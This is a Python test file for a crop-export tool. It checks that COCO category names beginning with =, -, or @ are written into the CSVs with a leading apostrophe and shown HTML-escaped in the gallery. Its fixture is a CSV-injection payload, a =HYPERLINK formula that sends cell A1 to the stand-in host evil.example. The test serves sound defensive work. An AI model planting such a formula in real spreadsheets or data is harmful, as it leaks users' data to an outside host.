"""Category names from a third-party COCO file that a spreadsheet would run as formulas: the crop CSVs carry
them as text (a leading '), the run names them once, and the gallery shows them as they were, escaped."""

from __future__ import annotations

import csv

from test_crops_helpers import annotation, image_record, put_image, write_coco

from sci_fetch.crops.gallery import write_gallery
from sci_fetch.crops.options import CropOptions
from sci_fetch.crops.run import run_crops

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _rows(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_formula_labels_are_text_in_both_csvs_and_named_once(tmp_path):
    images = tmp_path / "images"
    a = image_record(1)
    put_image(images, a["file_name"])
    cats = [{"id": 1, "name": HOSTILE}, {"id": 2, "name": "-deer"}, {"id": 3, "name": "@fox"}, {"id": 4, "name": "owl"}]
    coco = write_coco(
        tmp_path / "c.json",
        [a],
        [
            annotation("o1", a, 1, [32, 32, 64, 32]),
            annotation("o2", a, 2, [10, 10, 40, 40]),
            annotation("o3", a, 3, None),  # null box: a reject row with the label
            annotation("o4", a, 4, [50, 50, 30, 30]),
        ],
        cats,
    )
    summary = run_crops(coco, images, CropOptions(crops_dir=tmp_path / "crops", workers=1))
    crops = _rows(tmp_path / "crops" / "crops.csv")
    assert [(r["annotation_id"], r["species_label"]) for r in crops] == [
        ("o1", "'" + HOSTILE),
        ("o2", "'-deer"),
        ("o4", "owl"),
    ]
    # numbers the tool writes are untouched: the box and the cut
    assert [crops[0][k] for k in ("bbox_x", "bbox_y", "bbox_w", "bbox_h")] == ["32", "32", "64", "32"]
    rejects = _rows(tmp_path / "crops" / "crops_rejected.csv")
    assert [(r["annotation_id"], r["category"], r["species_label"], r["reason"]) for r in rejects] == [
        ("o3", "'@fox", "'@fox", "null_bbox")
    ]
    assert summary.escaped_labels == sorted([HOSTILE, "-deer", "@fox"])
    lines = summary.lines()
    named = [line for line in lines if "leading '" in line]
    assert named == [
        "labels starting with =, +, -, @, \\t, \\r are written with a leading ' so spreadsheets show them as text: "
        f"'-deer', {HOSTILE!r}, '@fox'"
    ]

    page = write_gallery(tmp_path / "crops").read_text()
    assert HOSTILE not in page  # never raw in the HTML
    escaped = "=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;click&quot;)"
    assert f"<h2>{escaped}<span" in page  # the label as it was in the COCO file, escaped
    assert "<h2>-deer<span" in page
    assert "&#x27;=HYPERLINK" not in page


def test_a_run_without_formula_labels_prints_no_such_line(tmp_path):
    images = tmp_path / "images"
    a = image_record(1)
    put_image(images, a["file_name"])
    coco = write_coco(tmp_path / "c.json", [a], [annotation("o1", a, 1, [32, 32, 64, 32])], [{"id": 1, "name": "deer"}])
    summary = run_crops(coco, images, CropOptions(crops_dir=tmp_path / "crops", workers=1))
    assert summary.escaped_labels == []
    assert not [line for line in summary.lines() if "leading '" in line]
